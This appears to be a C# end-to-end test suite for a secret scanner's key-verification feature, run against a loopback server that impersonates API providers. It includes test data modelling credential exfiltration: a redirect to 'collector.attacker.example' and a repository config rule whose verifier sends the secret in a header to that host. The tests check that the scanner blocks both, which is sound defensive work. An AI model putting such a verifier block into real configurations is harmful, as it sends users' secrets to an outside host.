using System.Text.Json;
using System.Xml.Linq;
using SecretScan.Tests.Support;
using SecretScan.Verification;
using static SecretScan.Tests.Support.ProviderImpersonator;

namespace SecretScan.Tests.EndToEnd;

/// <summary>
/// <c>--verify</c> through the real executable, against a loopback server impersonating each provider. The override
/// maps every host (<c>*</c>), so no request of these tests can reach the internet.
/// </summary>
[CancelAfter(180_000)]
public sealed class VerifyTests
{
    private sealed record Key(string Name, string Value, string Host, string ExpectedStatus);

    /// <summary>One key per answer the impersonator can give, each provider answering the way its API does.</summary>
    private static List<Key> Keys() =>
    [
        new("OPENAI_API_KEY", FakeSecrets.OpenAiProjectKey(), "api.openai.com", "live"),
        new("GITHUB_TOKEN", FakeSecrets.GitHubPat(), "api.github.com", "invalid"),
        new("STRIPE_KEY", FakeSecrets.StripeLiveKey(), "api.stripe.com", "quota"),
        new("SENDGRID_KEY", VerifySecrets.SendGrid(), "api.sendgrid.com", "restricted"),
        new("SLACK_TOKEN", VerifySecrets.SlackBot(), "slack.com", "invalid"),
        new("HF_TOKEN", VerifySecrets.HuggingFace(), "huggingface.co", "unknown"),
        new("TELEGRAM_TOKEN", VerifySecrets.Telegram(), "api.telegram.org", "unknown"),
        new("DO_TOKEN", VerifySecrets.DigitalOcean(), "api.digitalocean.com", "unknown"),
        new("AWS_ACCESS_KEY_ID", FakeSecrets.AwsAccessKeyId(), "", "not-checked"),
    ];

    private static Answer Provider(Request r) => r.Host switch
    {
        "api.openai.com" => r.Header("Authorization").StartsWith("Bearer sk-proj-", StringComparison.Ordinal) ? new Reply(200, "{\"data\":[]}") : new Reply(401),
        "api.github.com" => new Reply(401, "{\"message\":\"Bad credentials\"}"),
        "api.stripe.com" => new Reply(429, "{\"error\":{\"type\":\"rate_limit_error\"}}"),
        "api.sendgrid.com" => new Reply(403, "{\"errors\":[{\"message\":\"access forbidden\"}]}"),
        "slack.com" => new Reply(200, "{\"ok\":false,\"error\":\"invalid_auth\"}"),
        "huggingface.co" => new Slow(TimeSpan.FromSeconds(20)),
        "api.telegram.org" => new Garbage("\u0016\u0003\u0001 this is not HTTP\r\n\r\n"),
        "api.digitalocean.com" => Redirect("https://collector.attacker.example/keys"),
        _ => new Reply(500),
    };

    private static string EnvFile(IEnumerable<Key> keys) => string.Concat(keys.Select(k => $"{k.Name}={k.Value}\n"));

    [Test]
    public void Dir_Verify_EveryStatus_InEveryReportFormat_AndNoSecretLeaks()
    {
        using var server = new ProviderImpersonator(Provider);
        using var dir = new TempDirectory();
        using var outDir = new TempDirectory(TestContext.CurrentContext.Test.Name + "-out");
        var keys = Keys();
        dir.File("deploy/.env", EnvFile(keys));
        string json = outDir.Combine("r.json"), sarif = outDir.Combine("r.sarif"), junit = outDir.Combine("r.xml"), gh = outDir.Combine("r.txt");

        var r = CliRunner.Run(CliRunner.Executable, ["dir", ".", "--verify", "--verify-timeout", "1.5", "--report", $"json={json}",
            "--report", $"sarif={sarif}", "--report", $"junit={junit}", "--report", $"github={gh}"], dir.Path, environment: server.Environment());

        Assert.That(r.ExitCode, Is.EqualTo(1), r.ToString());
        var findings = JsonDocument.Parse(File.ReadAllText(json)).RootElement.GetProperty("findings").EnumerateArray().ToList();
        Assert.That(findings, Has.Count.EqualTo(keys.Count), r.ToString());
        string Status(int i) => findings[i].GetProperty("verification").GetProperty("status").GetString()!;
        string Reason(int i) => findings[i].GetProperty("verification").GetProperty("reason").GetString()!;
        Assert.Multiple(() =>
        {
            for (int i = 0; i < keys.Count; i++)
                Assert.That(Status(i), Is.EqualTo(keys[i].ExpectedStatus), $"{keys[i].Name}: {Reason(i)}");
            Assert.That(Reason(5), Does.Contain("no answer within 1.5 s"));
            Assert.That(Reason(6), Does.StartWith("network error"));
            Assert.That(Reason(7), Does.Contain("another host"));
            Assert.That(Reason(8), Does.Contain("no verifier"));
            Assert.That(server.Requests.Select(q => q.Host), Does.Not.Contain("collector.attacker.example"));
            Assert.That(server.Requests.Select(q => q.Host).Order(), Is.EqualTo(keys.Where(k => k.Host != "").Select(k => k.Host).Order()),
                "one request per verifiable key, each to its provider");
        });

        string text = r.Stdout;
        string sarifText = File.ReadAllText(sarif), junitText = File.ReadAllText(junit), ghText = File.ReadAllText(gh);
        var results = JsonDocument.Parse(sarifText).RootElement.GetProperty("runs")[0].GetProperty("results").EnumerateArray().ToList();
        var cases = XDocument.Parse(junitText).Descendants("testcase").ToList();
        var annotations = ghText.Split('\n', StringSplitOptions.RemoveEmptyEntries).Where(l => l.StartsWith("::", StringComparison.Ordinal)).ToList();
        Assert.Multiple(() =>
        {
            Assert.That(text, Does.Contain("status  live (HTTP 200)"));
            Assert.That(text, Does.Contain("status  quota (HTTP 429)"));
            Assert.That(text, Does.Contain("; verified: 1 not-checked, 1 live, 2 invalid, 1 quota, 1 restricted, 3 unknown"), "the summary counts the statuses");
            for (int i = 0; i < keys.Count; i++)
            {
                Assert.That(results[i].GetProperty("properties").GetProperty("verification").GetString(), Is.EqualTo(keys[i].ExpectedStatus), "SARIF " + keys[i].Name);
                Assert.That(cases[i].Element("failure")!.Value, Does.Contain($"status  {keys[i].ExpectedStatus}"), "JUnit " + keys[i].Name);
                Assert.That(annotations[i], Does.Contain($"Verification: {keys[i].ExpectedStatus}"), "annotation " + keys[i].Name);
            }
            foreach (Key k in keys)
                foreach (string output in new[] { r.Stdout, r.Stderr, File.ReadAllText(json), sarifText, junitText, ghText })
                    Assert.That(output, Does.Not.Contain(k.Value[(k.Value.Length / 2)..]), $"{k.Name} must stay masked");
            Assert.That(r.Stderr, Does.Contain("SS1403"), "test mode says so");
        });
    }

    [Test]
    public void OnlyVerified_KeepsLiveFindings_AndTheExitCodeFollows()
    {
        using var server = new ProviderImpersonator(Provider);
        using var dir = new TempDirectory();
        var keys = Keys().Where(k => k.Host is "api.openai.com" or "api.github.com" or "slack.com").ToList();
        dir.File(".env", EnvFile(keys));

        var some = CliRunner.Run(CliRunner.Executable, ["dir", ".", "--only-verified", "-f", "json"], dir.Path, environment: server.Environment());
        dir.File(".env", EnvFile(keys.Where(k => k.ExpectedStatus != "live")));
        var none = CliRunner.Run(CliRunner.Executable, ["dir", ".", "--only-verified", "-f", "json"], dir.Path, environment: server.Environment());

        var kept = JsonDocument.Parse(some.Stdout).RootElement.GetProperty("findings").EnumerateArray().ToList();
        Assert.Multiple(() =>
        {
            Assert.That(some.ExitCode, Is.EqualTo(1), some.ToString());
            Assert.That(kept.Select(f => f.GetProperty("ruleId").GetString()), Is.EqualTo(new[] { "openai-project-key" }));
            Assert.That(some.Stderr, Does.Contain("--only-verified left out 2 finding(s) that are not live (2 invalid)"));
            Assert.That(none.ExitCode, Is.EqualTo(0), none.ToString());
            Assert.That(JsonDocument.Parse(none.Stdout).RootElement.GetProperty("findings").GetArrayLength(), Is.Zero);
        });
    }

    [Test]
    public void WithoutVerify_NothingIsSent_AndReportsCarryNoStatus()
    {
        using var server = new ProviderImpersonator(Provider);
        using var dir = new TempDirectory();
        dir.File(".env", EnvFile(Keys().Take(2)));
        var r = CliRunner.Run(CliRunner.Executable, ["dir", ".", "-f", "json"], dir.Path, environment: server.Environment());
        Assert.That(r.ExitCode, Is.EqualTo(1), r.ToString());
        Assert.That(server.Requests, Is.Empty);
        Assert.That(r.Stdout, Does.Not.Contain("\"verification\""));
    }

    private const string ConfigRule = """
        rules:
          - id: test-key
            name: Test key
            description: A key for tests.
            provider: Test
            severity: high
            keywords: [tk_]
            pattern: '\b(?<secret>tk_[A-Za-z0-9]{20})\b'
            examples: ['a = tk_aB3dE5gH7jK9mN1pQ3sT', 'b: tk_Zx8Cv7Bn6Mm5Ll4Kk3Jq']
            negative_examples: ['tk_xxxxxxxxxxxxxxxxxxxx', 'tk_short']
            rotation: { url: 'https://example.com/keys', steps: [Delete it.], update: [Environment variables] }
            verify:
              method: GET
              url: https://collector.attacker.example/k
              headers: { X-Key: '{secret}' }
        """;

    [Test]
    public void RepositoryConfig_CannotAddAVerifier_ButARulesFileTheUserNamesCan()
    {
        using var server = new ProviderImpersonator(_ => new Reply(200));
        using var dir = new TempDirectory();
        using var mine = new TempDirectory(TestContext.CurrentContext.Test.Name + "-mine");
        string key = "tk_" + FakeSecrets.Random("ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789", 20);
        dir.File(".secretscan.yaml", ConfigRule);
        dir.File("app.txt", $"key = {key}\n");

        var fromRepo = CliRunner.Run(CliRunner.Executable, ["dir", ".", "--verify", "-f", "json"], dir.Path, environment: server.Environment());
        // The config's own rule examples are findings too; the one under test is in app.txt.
        var finding = JsonDocument.Parse(fromRepo.Stdout).RootElement.GetProperty("findings").EnumerateArray().Single(f => f.GetProperty("file").GetString() == "app.txt");
        Assert.Multiple(() =>
        {
            Assert.That(fromRepo.ExitCode, Is.EqualTo(1), fromRepo.ToString());
            Assert.That(fromRepo.Stderr, Does.Contain("SS1401").And.Contain("verify block is ignored"));
            Assert.That(finding.GetProperty("verification").GetProperty("status").GetString(), Is.EqualTo("not-checked"));
            Assert.That(server.Requests, Is.Empty, "the repository's verifier sent nothing, for none of its findings");
        });

        File.Delete(dir.Combine(".secretscan.yaml"));
        string rulesFile = mine.File("mine.yaml", "provider: Test\n" + ConfigRule);
        var named = CliRunner.Run(CliRunner.Executable, ["dir", ".", "--rules", rulesFile, "--verify", "-f", "json"], dir.Path, environment: server.Environment());
        var trusted = JsonDocument.Parse(named.Stdout).RootElement.GetProperty("findings").EnumerateArray().Single(f => f.GetProperty("file").GetString() == "app.txt");
        Assert.Multiple(() =>
        {
            Assert.That(named.Stderr, Does.Not.Contain("SS1401"));
            Assert.That(trusted.GetProperty("verification").GetProperty("status").GetString(), Is.EqualTo("live"), named.ToString());
            Assert.That(server.Requests.Single().Host, Is.EqualTo("collector.attacker.example"));
        });
    }

    [Test]
    public void GitHistory_AwsPair_IsVerifiedWithSigV4_AndBothHalvesShareTheAnswer()
    {
        using var server = new ProviderImpersonator(r => r.Host == "sts.amazonaws.com"
            && r.Header("Authorization").StartsWith("AWS4-HMAC-SHA256 Credential=AKIA", StringComparison.Ordinal)
            ? new Reply(403, "<ErrorResponse><Error><Code>InvalidClientTokenId</Code></Error></ErrorResponse>")
            : new Reply(500));
        using var repo = TestRepository.Init();
        string id = FakeSecrets.AwsAccessKeyId(), secret = VerifySecrets.AwsSecret();
        repo.Commit("add credentials", ("ops/credentials", $"[default]\naws_access_key_id = {id}\naws_secret_access_key = {secret}\n"));
        repo.Commit("remove credentials", ("ops/credentials", "[default]\n"));

        var env = new Dictionary<string, string?>(repo.Environment);
        foreach (var (k, v) in server.Environment()) env[k] = v;
        var r = CliRunner.Run(CliRunner.Executable, ["git", ".", "--verify", "-f", "json"], repo.Path, environment: env);

        Assert.That(r.ExitCode, Is.EqualTo(1), r.ToString());
        var findings = JsonDocument.Parse(r.Stdout).RootElement.GetProperty("findings").EnumerateArray()
            .ToDictionary(f => f.GetProperty("ruleId").GetString()!, f => f.GetProperty("verification"));
        var request = server.Requests.Single();
        Assert.Multiple(() =>
        {
            Assert.That(findings["aws-secret-access-key"].GetProperty("status").GetString(), Is.EqualTo("invalid"));
            Assert.That(findings["aws-access-key-id"].GetProperty("status").GetString(), Is.EqualTo("invalid"));
            Assert.That(request.Header("Authorization"), Does.Contain($"Credential={id}/"));
            Assert.That(request.Target, Is.EqualTo("/?Action=GetCallerIdentity&Version=2011-06-15"));
            Assert.That(r.Stdout + r.Stderr, Does.Not.Contain(secret));
        });
    }

    [Test]
    public void Proxy_FromHttpsProxy_IsUsed_WhenThereIsNoOverride()
    {
        // The "proxy" is the loopback server refusing every tunnel, so this test still cannot reach the internet.
        using var proxy = new ProviderImpersonator(_ => new Reply(403, "tunnels refused"));
        using var dir = new TempDirectory();
        dir.File(".env", EnvFile(Keys().Take(1)));
        var env = new Dictionary<string, string?>
        {
            ["HTTPS_PROXY"] = $"http://127.0.0.1:{proxy.Port}", ["https_proxy"] = $"http://127.0.0.1:{proxy.Port}",
            ["NO_PROXY"] = null, ["no_proxy"] = null, ["ALL_PROXY"] = null,
            [LoopbackOverride.HostsVariable] = null, [LoopbackOverride.GuardVariable] = null,
        };
        var r = CliRunner.Run(CliRunner.Executable, ["dir", ".", "--verify", "-f", "json"], dir.Path, environment: env);
        var v = JsonDocument.Parse(r.Stdout).RootElement.GetProperty("findings")[0].GetProperty("verification");
        Assert.Multiple(() =>
        {
            Assert.That(proxy.Requests.Single().Method, Is.EqualTo("CONNECT"));
            Assert.That(proxy.Requests.Single().Host, Is.EqualTo("api.openai.com:443"), "the real provider host, over HTTPS, through the proxy");
            Assert.That(v.GetProperty("status").GetString(), Is.EqualTo("unknown"));
            Assert.That(v.GetProperty("reason").GetString(), Does.StartWith("network error"));
        });
    }

    [TestCase("api.openai.com=192.0.2.10:443", "loopback")]
    [TestCase("nonsense", "HOST=IP:PORT")]
    public void OverrideThatIsNotLoopback_IsAUsageError(string hosts, string message)
    {
        using var dir = new TempDirectory();
        dir.File("a.txt", "nothing here\n");
        var r = CliRunner.Run(CliRunner.Executable, ["dir", ".", "--verify"], dir.Path, environment: new Dictionary<string, string?>
        {
            [LoopbackOverride.HostsVariable] = hosts, [LoopbackOverride.GuardVariable] = LoopbackOverride.GuardValue,
        });
        Assert.That(r.ExitCode, Is.EqualTo(2), r.ToString());
        Assert.That(r.Stderr, Does.Contain(message).And.Not.Contain("   at "));
    }

    [TestCase("0")]
    [TestCase("soon")]
    [TestCase("-3")]
    public void BadVerifyTimeout_IsAUsageError(string value)
    {
        using var dir = new TempDirectory();
        var r = CliRunner.SecretscanWithInput(dir.Path, "nothing\n", "stdin", "--verify", $"--verify-timeout={value}");
        Assert.That(r.ExitCode, Is.EqualTo(2), r.ToString());
        Assert.That(r.Stderr, Does.Contain("--verify-timeout").And.Not.Contain("   at "));
    }

    [Test]
    public void Stdin_Verify_Works()
    {
        using var server = new ProviderImpersonator(Provider);
        using var dir = new TempDirectory();
        var r = CliRunner.Run(CliRunner.Executable, ["stdin", "--verify", "-f", "json"], dir.Path, EnvFile(Keys().Take(1)), server.Environment());
        Assert.That(r.ExitCode, Is.EqualTo(1), r.ToString());
        Assert.That(JsonDocument.Parse(r.Stdout).RootElement.GetProperty("findings")[0].GetProperty("verification").GetProperty("status").GetString(), Is.EqualTo("live"));
    }
}
